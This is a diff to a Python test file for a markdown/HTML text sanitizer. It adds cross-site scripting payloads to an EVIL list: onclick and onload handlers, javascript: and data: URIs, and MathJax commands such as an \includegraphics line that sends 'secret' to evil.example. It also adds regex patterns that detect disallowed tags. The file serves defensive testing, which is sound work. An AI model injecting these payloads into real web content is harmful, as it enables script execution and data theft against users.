@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from itertools import pairwise
 
 import pytest
@@ -47,19 +48,70 @@ EVIL = [
     "[x][r]\n\n[r]:\n  <javascript:alert(1)>",
     "<javascript:alert(1)>",
     "<data:text/html,x>",
+    "<foo onclick=alert(1)>",
+    "<x-y>",
+    "<i, onclick=alert(1)>",
+    "<b onmouseover=alert(1)>",
+    "<br onload=alert(1)/>",
+    "<br/onload=alert(1)>",
+    "<a>x</a>",
+    "</div>",
+    "</p onclick=x>",
+    "</ p>",
+    "<!-- hidden -->",
+    "<!DOCTYPE html>",
+    "<![CDATA[x]]>",
+    "<?php x ?>",
+    "<details open>",
+    "$\\href{javascript:alert(1)}{x}$",
+    "$\\url{https://evil.example}$",
+    "$$\\includegraphics[width=1em]{https://evil.example/?d=secret}$$",
+    "\\(\\htmlData{x=y}{z}\\) \\htmlStyle{a}{b} \\htmlId{a}{b} \\htmlClass{a}{b}",
+    "\\\\href{x}{y} \\let\\x=\\href \\require{html}\\style{background:url(x)}{y} \\class{a}{b} \\cssId{a}{b}",
 ]
 GOOD = [
-    "PSMB10 is on 16q22.1 [1], p < 0.05 and x<y; see [2][3]. Great! [sic]",
+    "PSMB10 is on 16q22.1 [1], p < 0.05 and p<0.05; see [2][3]. Great! [sic]",
     "\n\nReferences:\n[1] [NCBI Gene 5699](https://www.ncbi.nlm.nih.gov/gene/5699)",
     "<https://pubmed.ncbi.nlm.nih.gov/1> and [a](http://x.example 'title') and [r]: https://x.example",
-    "H<sub>2</sub>O, n<i, a <c and d> e, 5'<-3', <10 kb, A -> B, -->",
+    "H<sub>2</sub>O, <B>x</B>, a<br>b<br/>c<br />, p<0.05, 5'<-3', <10 kb, A -> B, -->, <- x, a <= b, a < b and c > d",
+    r"$\alpha \hrulefill \frac{1}{2} \text{p} \urcorner \classify$ \( \[ \, \_ C:\Users",
     "f[i](x) != g(x); array[0](1/2); !important",
     "[see below](#methods) and [a](/gene) and [note]: text follows",
 ]
 _PIECES = st.lists(
     st.one_of(
         st.sampled_from(
-            ["!", "[", "]", "(", ")", "<", ">", ":", "img", " ", "\n", "javascript", "http", "/", "\\", "&"]
+            [
+                "!",
+                "[",
+                "]",
+                "(",
+                ")",
+                "<",
+                ">",
+                ":",
+                "img",
+                " ",
+                "\n",
+                "javascript",
+                "http",
+                "/",
+                "\\",
+                "&",
+                "b",
+                "br",
+                "sub",
+                "p",
+                "?",
+                "href",
+                "url",
+                "html",
+                "include",
+                "graphics",
+                "alpha",
+                "x-y",
+                " onclick=x",
+            ]
         ),
         st.text(max_size=5),
     )
@@ -76,6 +128,9 @@ def test_nothing_is_fetched_and_no_link_leads_elsewhere(text: str) -> None:
     shown = _shown(sanitize_text(text)).lower()
 
     assert not [tag for tag in ("<img", "<image", "<div", "<style", "<video", "<iframe", "<script") if tag in shown]
+    plain = re.sub(r"</?(?:p|li|ul|ol|blockquote|em|strong|code|pre|a|br|h[1-6])(?: [^<>]*)?>", "", shown)
+    assert "<" not in re.sub(r"<br( /)?>", "", plain), plain
+    assert not re.search(r"\\(?:href|url|includegraphics|html|class|cssid|style|require)", sanitize_text(text), re.I)
     assert 'href="' not in shown or 'href="http' in shown
     assert not [
         bad
@@ -89,6 +144,31 @@ def test_nothing_is_fetched_and_no_link_leads_elsewhere(text: str) -> None:
 def test_ordinary_text_stays_as_it_is(text: str) -> None:
     """Citations, comparisons, web links, formatting without attributes."""
     assert sanitize_text(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("a <b and c", "a < b and c"),
+        ("n<i, x<y; and a <c and d> e", "n< i, x< y; and a < c and d> e"),
+        ("I </3 you <!important", "I < /3 you < !important"),
+        (r"\href{x}{y} and \alpha", r"\ href{x}{y} and \alpha"),
+    ],
+)
+def test_comparisons_keep_their_meaning(text: str, shown: str) -> None:
+    """One space, where a reader of HTML could see an element."""
+    assert sanitize_text(text) == shown
+
+
+@given(_PIECES)
+def test_nothing_but_formatting_is_an_element(text: str) -> None:
+    """As CommonMark reads it, and as a browser does: each ``<`` before a name, a slash, ``!`` or ``?``."""
+    safe = sanitize_text(text)
+    allowed = re.compile(r"</?(?:b|br|sub|p|s|i|u|q|h[1-6])>|<br ?/>|<https?:", re.I)
+
+    for found in re.finditer(r"<[A-Za-z/!?]", safe):
+        assert allowed.match(safe, found.start()), safe[found.start() :]
+    assert not re.search(r"\\(?:href|url|includegraphics)(?![A-Za-z@])|\\html", safe, re.I)
 
 
 @given(_PIECES)
@@ -126,7 +206,16 @@ def test_places_move_with_the_text(text: str) -> None:
 
 
 @pytest.mark.parametrize(
-    ("first", "second"), [("!", "[x](u)"), ("]", "(javascript:x)"), ("<", "img src=x>"), ("]", ":x")]
+    ("first", "second"),
+    [
+        ("!", "[x](u)"),
+        ("]", "(javascript:x)"),
+        ("<", "img src=x>"),
+        ("]", ":x"),
+        ("<", "/svg>"),
+        ("<", "!--"),
+        ("\\", "href{x}"),
+    ],
 )
 def test_a_construct_over_a_flush_is_parted(first: str, second: str) -> None:
     """What was shown cannot be taken back, so the space comes before what follows."""
